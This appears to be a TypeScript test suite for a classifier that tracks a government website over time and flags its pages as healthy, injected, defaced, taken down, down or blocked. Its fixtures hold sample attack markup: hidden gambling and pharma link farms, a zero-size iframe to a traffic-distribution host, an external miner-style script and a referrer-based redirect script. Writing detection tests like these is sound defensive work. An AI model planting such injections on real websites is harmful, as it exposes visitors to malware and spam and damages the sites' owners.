/**
 * The classifier, verdict by verdict, on realistic pages moving through each state the way the
 * watcher sees them (captures in order, history newest first, snapshots round-tripped as JSON).
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { SiteRun, T0, answer, failure, govPage, hiddenGamblingBlock, DEFACEMENT, PARKED, ICP_NOTICE } from './pages.ts';
import { classifyCapture, snapshotOf } from '../../../src/detect/sites/classify.ts';
import type { ProbeHint } from '../../../src/detect/sites/types.ts';

const HOUR = 3_600_000;
const at = (i: number) => T0 + i * HOUR;

describe('healthy pages: reachable and updated', () => {
  it('first capture is reachable, saying so; a revisit with only boilerplate changed (date, counter, token, ad) stays reachable', () => {
    const run = new SiteRun();
    const first = run.visit(answer(govPage({ visit: 0 }), { at: at(0) }));
    assert.equal(first.verdict, 'reachable');
    assert.deepEqual(first.reasons, ['first capture']);
    assert.equal(first.baselineIndex, null);
    for (let v = 1; v <= 5; v++) {
      const c = run.visit(answer(govPage({ visit: v }), { at: at(v) }));
      assert.equal(c.verdict, 'reachable', `visit ${v}: ${c.reasons.join(' | ')}`);
      assert.match(c.reasons[0]!, /^unchanged since the capture of 2026-12-02T/);
      assert.equal(c.baselineIndex, 0);
    }
  });

  it('a new headline is an update, with the lines added and removed', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const news = ['县政府召开第十三次常务会议', '关于做好今冬明春森林防火工作的通知', '2026年全县粮食生产再获丰收', '县委书记调研乡村振兴工作', '关于公开征求《城市管理条例》意见的公告'];
    const c = run.visit(answer(govPage({ visit: 1, news }), { at: at(1) }));
    assert.equal(c.verdict, 'updated');
    assert.match(c.reasons[0]!, /content updated since the capture of .*: 1 line added and 1 removed/);
    const d = c.diff as { addedSample: string[]; removedSample: string[] };
    assert.deepEqual(d.addedSample, ['县政府召开第十三次常务会议 #']);
    assert.deepEqual(d.removedSample, ['县政府召开第十二次常务会议 #']);
  });
});

describe('injected: hidden spam on an otherwise unchanged page', () => {
  it('a gov page injected with hidden 博彩 links is injected, stays injected, and is back to healthy once cleaned', () => {
    const run = new SiteRun();
    run.visit(answer(govPage({ visit: 0 }), { at: at(0) }));
    run.visit(answer(govPage({ visit: 1 }), { at: at(1) }));
    const inj = run.visit(answer(govPage({ visit: 2, extra: hiddenGamblingBlock(14, 9) }), { at: at(2) }));
    assert.equal(inj.verdict, 'injected', inj.reasons.join(' | '));
    assert.match(inj.reasons[0]!, /^14 hidden links added to 9 new hosts \(.*\), with gambling terms 博彩, 娱乐城, 澳门赌场/);
    assert.match(inj.reasons.at(-1)!, /the rest of the page is 100% similar/);
    const still = run.visit(answer(govPage({ visit: 3, extra: hiddenGamblingBlock(14, 9) }), { at: at(3) }));
    assert.equal(still.verdict, 'injected');
    assert.equal(still.baselineIndex, 1, 'compared with the last healthy capture, not the injected one');
    const clean = run.visit(answer(govPage({ visit: 4 }), { at: at(4) }));
    assert.ok(clean.verdict === 'reachable' || clean.verdict === 'updated', clean.reasons.join(' | '));
  });

  it('a hidden-class spam block (the class hidden by the page\'s own <style>) and a pharma link farm are injected', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const styled = govPage({ visit: 1, extra: '<style>.seo{display:none}</style><div class="seo"><a href="http://viagra-shop.example/">buy viagra</a> <a href="http://pills.example/">cialis online</a></div>' });
    const c = run.visit(answer(styled, { at: at(1) }));
    assert.equal(c.verdict, 'injected', c.reasons.join(' | '));
    assert.match(c.reasons[0]!, /2 hidden links added to 2 new hosts \(viagra-shop\.example, pills\.example\), with pharma terms viagra, cialis/);
  });

  it('a hidden iframe, a new external script and a script redirect from new hosts are injections', () => {
    const base = new SiteRun();
    base.visit(answer(govPage(), { at: at(0) }));
    const frame = base.visit(answer(govPage({ visit: 1, extra: '<iframe src="http://evil-tds.example/in.php" width="0" height="0"></iframe>' }), { at: at(1) }));
    assert.equal(frame.verdict, 'injected');
    assert.deepEqual(frame.reasons.slice(0, 1), ['1 hidden iframe from evil-tds.example added']);
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const js = run.visit(answer(govPage({ visit: 1, extra: '<script src="https://cdn.coinhive-like.example/m.js"></script><script>if(/baidu/.test(document.referrer)){window.location.href="https://www.amdc888.example/"}</script>' }), { at: at(1) }));
    assert.equal(js.verdict, 'injected', js.reasons.join(' | '));
    assert.ok(js.reasons.includes('a script now sends visitors to www.amdc888.example'), js.reasons.join(' | '));
    assert.ok(js.reasons.includes('script from new host cdn.coinhive-like.example added'), js.reasons.join(' | '));
  });

  it('gambling terms injected into the title are injected, not defaced', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(govPage({ visit: 1, title: '澳门赌场_百家乐_清河县人民政府门户网站' }), { at: at(1) }));
    assert.equal(c.verdict, 'injected', c.reasons.join(' | '));
    assert.match(c.reasons[0]!, /^the title now carries gambling terms 澳门赌场, 百家乐/);
  });
});

describe('defaced', () => {
  it('a defacement replacing the page is defaced with its signature and title, and stays defaced until restored', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    run.visit(answer(govPage({ visit: 1 }), { at: at(1) }));
    const d = run.visit(answer(DEFACEMENT, { at: at(2) }));
    assert.equal(d.verdict, 'defaced');
    assert.equal(d.reasons[0], "the title now reads 'Hacked By Sh4d0w Team' (defacement signature 'hacked by')");
    assert.ok(d.reasons.some((r) => /^the main content and the layout are unlike every earlier capture \(at most \d+% of the text and \d+% of the layout in common\)$/.test(r)), d.reasons.join(' | '));
    const again = run.visit(answer(DEFACEMENT, { at: at(3) }));
    assert.equal(again.verdict, 'defaced');
    assert.equal(again.baselineIndex, 1);
    const back = run.visit(answer(govPage({ visit: 4 }), { at: at(4) }));
    assert.equal(back.verdict, 'reachable', back.reasons.join(' | '));
  });

  it('a defacement banner added on top of the page (partial defacement) is defaced', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const html = govPage({ visit: 1 }).replace('<body>', '<body><div style="background:#000;color:#0f0"><h1>h4ck3d by xN3T</h1></div>');
    const c = run.visit(answer(html, { at: at(1) }));
    assert.equal(c.verdict, 'defaced', c.reasons.join(' | '));
    assert.deepEqual(c.reasons, ["defacement signature 'hacked by', 'h4ck3d' on the page"]);
  });

  it('a replaced title alone is defaced, quoting both titles', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(govPage({ visit: 1, title: 'Free Palestine' }), { at: at(1) }));
    assert.equal(c.verdict, 'defaced');
    assert.deepEqual(c.reasons, ["the title changed from '清河县人民政府门户网站' to 'Free Palestine'"]);
  });

  it('a headline that reports a hack ("hacked by" inside a link text) is an update, not a defacement', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const news = ['Ministry website hacked by group claiming ties to ransomware gang', '关于做好今冬明春森林防火工作的通知', '2026年全县粮食生产再获丰收', '县委书记调研乡村振兴工作', '关于公开征求《城市管理条例》意见的公告'];
    const c = run.visit(answer(govPage({ visit: 1, news }), { at: at(1) }));
    assert.equal(c.verdict, 'updated', c.reasons.join(' | '));
  });
});

describe('taken_down', () => {
  for (const status of [404, 410, 451]) {
    it(`HTTP ${status} is taken_down`, () => {
      const run = new SiteRun();
      run.visit(answer(govPage(), { at: at(0) }));
      const c = run.visit(answer('<html><body><h1>Not Found</h1></body></html>', { at: at(1), status }));
      assert.equal(c.verdict, 'taken_down');
      assert.match(c.reasons[0]!, new RegExp(`HTTP ${status}`));
    });
  }

  it('a redirect to a parking page on another domain is taken_down, naming the parking service', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(PARKED, { at: at(1), url: 'https://www.sedoparking.com/example.gov.cn' }));
    assert.equal(c.verdict, 'taken_down', c.reasons.join(' | '));
    assert.equal(c.reasons[0], 'the site now redirects to www.sedoparking.com, a domain-parking service');
    assert.ok(c.reasons.includes('the answer came from sedoparking.com, not example.gov.cn'), c.reasons.join(' | '));
  });

  it('a parking page served on the site\'s own domain is taken_down', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(PARKED, { at: at(1) }));
    assert.equal(c.verdict, 'taken_down', c.reasons.join(' | '));
    assert.ok(c.reasons.some((r) => r.startsWith('the page loads img.sedoparking.com')), c.reasons.join(' | '));
  });

  it('an ICP-revocation notice is taken_down, and the site back afterwards compares with its last good page', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(ICP_NOTICE, { at: at(1) }));
    assert.equal(c.verdict, 'taken_down', c.reasons.join(' | '));
    assert.match(c.reasons[0]!, /shutdown or ICP-revocation notice: '网站暂停访问', 'ICP备案已注销'/);
    const back = run.visit(answer(govPage({ visit: 2 }), { at: at(2) }));
    assert.equal(back.verdict, 'reachable');
    assert.equal(back.baselineIndex, 1);
  });

  it('a page that merely mentions 根据相关法律法规 in its text is not a takedown', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const news = ['根据相关法律法规，县政府公布2026年行政事业性收费目录', '关于做好今冬明春森林防火工作的通知', '2026年全县粮食生产再获丰收', '县委书记调研乡村振兴工作', '关于公开征求《城市管理条例》意见的公告'];
    const c = run.visit(answer(govPage({ visit: 1, news }), { at: at(1) }));
    assert.equal(c.verdict, 'updated', c.reasons.join(' | '));
  });
});

describe('down and blocked', () => {
  it('a failure is down with its code; a 5xx is down; an empty 200 is down', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    assert.deepEqual(run.visit(failure('ECONNREFUSED', at(1))).reasons, ['no answer: ECONNREFUSED (connect ECONNREFUSED 203.0.113.9:443)']);
    assert.equal(run.history[0]!.verdict, 'down');
    const c = run.visit(answer('<h1>502 Bad Gateway</h1>', { at: at(2), status: 502 }));
    assert.deepEqual([c.verdict, c.reasons], ['down', ['the server answered HTTP 502 (a server error)']]);
    assert.equal(run.visit(answer('', { at: at(3) })).verdict, 'down');
    const back = run.visit(answer(govPage({ visit: 4 }), { at: at(4) }));
    assert.equal(back.verdict, 'reachable');
  });

  it('a recent blocking probe verdict makes the capture blocked; an old one or an accessible one does not', () => {
    const probe = (ageMs: number, blocking: string | null = 'dns'): ProbeHint => ({ measurementId: 77, at: at(1) - ageMs, blocking, accessible: blocking ? false : true });
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(failure('ENOTFOUND', at(1)), probe(20 * 60_000));
    assert.equal(c.verdict, 'blocked');
    assert.deepEqual(c.reasons, ['the blocking probe found dns blocking of this host 20 minutes before this capture (measurement 77)', 'this fetch got no answer (ENOTFOUND)']);
    // A block page answered over HTTP would otherwise look like a defacement.
    assert.equal(run.visit(answer('<html><title>Blocked</title><body>Access denied</body></html>', { at: at(1) }), probe(0, 'http-diff')).verdict, 'blocked');
    assert.equal(run.visit(failure('ENOTFOUND', at(1)), probe(2 * HOUR)).verdict, 'down', 'older than max(2 x interval, 1 h)');
    assert.equal(run.visit(failure('ENOTFOUND', at(1)), probe(0, null)).verdict, 'down');
    const daily = classifyCapture({ outcome: failure('ENOTFOUND', at(1)), snapshot: null }, [], probe(30 * HOUR), { intervalMs: 24 * HOUR });
    assert.equal(daily.verdict, 'blocked', 'a daily site accepts a probe verdict up to two days old');
  });
});

describe('snapshots are plain JSON and bounded', () => {
  it('round-trips through JSON unchanged', () => {
    const s = snapshotOf(answer(govPage({ extra: hiddenGamblingBlock() })))!;
    assert.deepEqual(JSON.parse(JSON.stringify(s)), s);
    assert.equal(s.v, 1);
    assert.equal(s.links.filter((l) => l.hidden).length, 14);
    assert.ok(s.markers.hidden.includes('博彩'));
    assert.deepEqual(s.markers.visible, []);
  });
});

describe('pages standing in for the site, moves and redesigns', () => {
  it('a Cloudflare challenge, a Chinese WAF block and a maintenance notice served with 200 are down, not defaced', () => {
    for (const [html, term] of [
      ['<html><head><title>Just a moment...</title></head><body><h1>www.example.gov.cn</h1><p>Checking if the site connection is secure</p><p>Enable JavaScript and cookies to continue</p></body></html>', "'just a moment'"],
      ['<html><head><title>网站防火墙</title></head><body><p>您的请求带有不合法参数，已被网站管理员设置拦截！</p><p>可能原因：您提交的内容包含危险的攻击请求</p></body></html>', "'网站防火墙'"],
      ['<html><head><title>Maintenance</title></head><body><h1>Our website is currently under maintenance</h1><p>We will be back shortly.</p></body></html>', "'under maintenance'"],
    ] as const) {
      const run = new SiteRun();
      run.visit(answer(govPage(), { at: at(0) }));
      const c = run.visit(answer(html, { at: at(1) }));
      assert.equal(c.verdict, 'down', c.reasons.join(' | '));
      assert.ok(c.reasons[0]!.startsWith('a bot challenge, firewall or maintenance page answered instead of the site (') && c.reasons[0]!.includes(term), c.reasons[0]);
    }
  });

  it('the same site answering from a new domain is healthy, with the move in the reasons', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const c = run.visit(answer(govPage({ visit: 1 }), { at: at(1), url: 'https://www.qinghe.gov.cn/' }));
    assert.equal(c.verdict, 'reachable');
    assert.deepEqual(c.reasons.slice(1), ['the answer came from qinghe.gov.cn, not example.gov.cn']);
  });

  it('a site redirected to a gambling site is defaced, naming the other domain and the terms', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const spam = '<html><head><title>澳门新葡京娱乐城-百家乐官网</title></head><body><div class="top"><a href="/reg">立即注册</a></div><h1>澳门新葡京 真人百家乐 六合彩</h1><ul><li>体育投注</li><li>电子游戏</li></ul></body></html>';
    const c = run.visit(answer(spam, { at: at(1), url: 'https://www.xpj8888.example/' }));
    assert.equal(c.verdict, 'defaced', c.reasons.join(' | '));
    assert.ok(c.reasons.includes('the answer came from xpj8888.example, not example.gov.cn'), c.reasons.join(' | '));
    assert.ok(c.reasons.some((r) => r.startsWith('the page carries gambling terms ')), c.reasons.join(' | '));
  });

  it('a complete redesign keeping the title is defaced, with a note that it may be a redesign', () => {
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0) }));
    const redesign = '<html><head><title>清河县人民政府门户网站</title></head><body><section class="hero"><h1>欢迎来到清河</h1><p>千年古县 魅力清河</p></section><section class="grid"><article><h4>投资清河</h4><p>产业园区招商引资项目介绍与优惠政策解读</p></article><article><h4>文化旅游</h4><p>名胜古迹、特色美食与旅游线路推荐</p></article></section></body></html>';
    const c = run.visit(answer(redesign, { at: at(1) }));
    assert.equal(c.verdict, 'defaced');
    assert.match(c.reasons[0]!, /unlike every earlier capture .*; the title is kept, as in a redesign: the capture deserves a look$/);
  });

  it('stored snapshots of another version are not compared with', () => {
    const old = { ...snapshotOf(answer(govPage()))!, v: 0 } as unknown as NonNullable<ReturnType<typeof snapshotOf>>;
    const c = classifyCapture({ outcome: answer('<html><head><title>Other</title></head><body><p>Entirely different words here.</p></body></html>', { at: at(1) }), snapshot: null }, [{ at: at(0), status: 200, verdict: 'reachable', snapshot: old }], null);
    assert.deepEqual([c.verdict, c.baselineIndex], ['reachable', null]);
  });
});

describe('sites on one address told apart by port (local simulations, intranets)', () => {
  it('hidden links to another port are links to another site; an answer from another port is a move', () => {
    const url = 'http://127.0.0.1:9001/';
    const run = new SiteRun();
    run.visit(answer(govPage(), { at: at(0), url }));
    const farm = '<div style="display:none">' + [9101, 9102, 9103].map((p) => `<a href="http://127.0.0.1:${p}/">在线博彩</a>`).join('') + '</div>';
    const c = run.visit(answer(govPage({ visit: 1, extra: farm }), { at: at(1), url }));
    assert.equal(c.verdict, 'injected', c.reasons.join(' | '));
    assert.match(c.reasons[0]!, /^3 hidden links added to 3 new hosts \(127\.0\.0\.1:9101, 127\.0\.0\.1:9102, 127\.0\.0\.1:9103\)/);
    const moved = run.visit(answer(govPage({ visit: 2 }), { at: at(2), url: 'http://127.0.0.1:9002/' }));
    assert.ok(moved.reasons.includes('the answer came from 127.0.0.1:9002, not 127.0.0.1:9001'), moved.reasons.join(' | '));
  });
});

